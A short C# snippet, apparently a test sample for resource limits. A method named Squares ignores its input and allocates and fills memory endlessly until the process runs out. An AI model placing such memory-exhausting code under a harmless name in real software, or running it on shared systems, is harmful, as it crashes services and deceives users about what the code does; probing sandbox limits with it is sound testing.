// Takes all memory, and touches it.
double[] Squares(int n)
{
    var all = new List<byte[]>();
    while (true)
    {
        all.Add(new byte[1 << 24]);
        Array.Fill(all[^1], (byte)1);
    }
}
